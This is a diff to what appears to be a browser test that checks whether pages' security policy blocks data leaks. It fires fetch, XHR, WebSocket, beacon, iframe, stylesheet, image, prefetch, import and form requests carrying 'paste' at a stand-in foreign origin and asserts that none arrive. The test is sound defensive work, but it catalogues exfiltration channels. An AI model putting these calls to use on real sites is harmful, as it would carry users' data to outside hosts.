@@ -24,13 +24,19 @@ for (const address of PAGES) {
 
     const outcome = await page.evaluate(async (away) => {
       const here = location.origin;
-      const settled = async (attempt: () => Promise<unknown>): Promise<string> => {
+      const results: Record<string, string> = {};
+      const attempts: Promise<void>[] = [];
+      const settled = async (name: string, attempt: () => Promise<unknown>): Promise<void> => {
         try {
           await attempt();
-          return 'went through';
+          results[name] = 'went through';
         } catch {
-          return 'refused';
+          results[name] = 'refused';
         }
+      };
+      // All at once: waiting for the silence of one after the other would take a quarter of a minute.
+      const tried = (name: string, attempt: () => Promise<unknown>): void => {
+        attempts.push(settled(name, attempt));
       };
       const loading = (element: HTMLElement): Promise<unknown> =>
         new Promise((resolve, reject) => {
@@ -59,39 +65,34 @@ for (const address of PAGES) {
           request.open('POST', url);
           request.send('paste');
         });
-      const results: Record<string, string> = {};
       for (const [name, origin] of Object.entries({ foreign: away, own: here })) {
         const at = (path: string): string => `${origin}/leak-${path}?paste`;
-        results[`${name} fetch`] = await settled(() =>
-          fetch(at('fetch'), { method: 'POST', body: 'paste', mode: 'no-cors' }),
-        );
-        results[`${name} keepalive`] = await settled(() =>
-          fetch(at('keepalive'), { keepalive: true, mode: 'no-cors' }),
-        );
-        results[`${name} xhr`] = await settled(() => xhr(at('xhr')));
-        results[`${name} event stream`] = await settled(() => stream(at('stream')));
-        results[`${name} socket`] = await settled(() => socket(at('socket').replace('http', 'ws')));
+        tried(`${name} fetch`, () => fetch(at('fetch'), { method: 'POST', body: 'paste', mode: 'no-cors' }));
+        tried(`${name} keepalive`, () => fetch(at('keepalive'), { keepalive: true, mode: 'no-cors' }));
+        tried(`${name} xhr`, () => xhr(at('xhr')));
+        tried(`${name} event stream`, () => stream(at('stream')));
+        tried(`${name} socket`, () => socket(at('socket').replace('http', 'ws')));
         // A beacon says true even where the policy then drops it, so only its arrival counts.
         navigator.sendBeacon(at('beacon'), 'paste');
-        results[`${name} frame`] = await settled(() =>
+        tried(`${name} frame`, () =>
           loading(Object.assign(document.createElement('iframe'), { src: at('frame') })),
         );
-        results[`${name} style`] =
-          name === 'own'
-            ? 'refused'
-            : await settled(() =>
-                loading(
-                  Object.assign(document.createElement('link'), { rel: 'stylesheet', href: at('style') }),
-                ),
-              );
-        results[`${name} media`] = await settled(() =>
+        tried(`${name} media`, () =>
           loading(Object.assign(document.createElement('video'), { src: at('media') })),
         );
       }
-      results['foreign image'] = await settled(() =>
+      tried('foreign style', () =>
+        loading(
+          Object.assign(document.createElement('link'), {
+            rel: 'stylesheet',
+            href: `${away}/leak-style?paste`,
+          }),
+        ),
+      );
+      tried('foreign image', () =>
         loading(Object.assign(document.createElement('img'), { src: `${away}/leak-image?paste` })),
       );
-      results['foreign prefetch'] = await settled(() =>
+      tried('foreign prefetch', () =>
         loading(
           Object.assign(document.createElement('link'), {
             rel: 'prefetch',
@@ -99,9 +100,8 @@ for (const address of PAGES) {
           }),
         ),
       );
-      results['foreign import'] = await settled(
-        () => import(/* @vite-ignore */ `${away}/leak-import.js?paste`),
-      );
+      tried('foreign import', () => import(/* @vite-ignore */ `${away}/leak-import.js?paste`));
+      await Promise.all(attempts);
       const form = Object.assign(document.createElement('form'), {
         method: 'post',
         action: `${away}/leak-form`,
@@ -117,6 +117,7 @@ for (const address of PAGES) {
     const through = Object.entries(outcome)
       .filter(([, result]) => result === 'went through')
       .map(([name]) => name);
+    expect(Object.keys(outcome)).toHaveLength(18);
     // Chromium resolves an iframe's load event even for a blocked frame; whether it arrived is what counts.
     expect(through.filter((name) => !name.endsWith('frame'))).toEqual([]);
     expect(arrived, 'requests that reached another origin').toEqual([]);
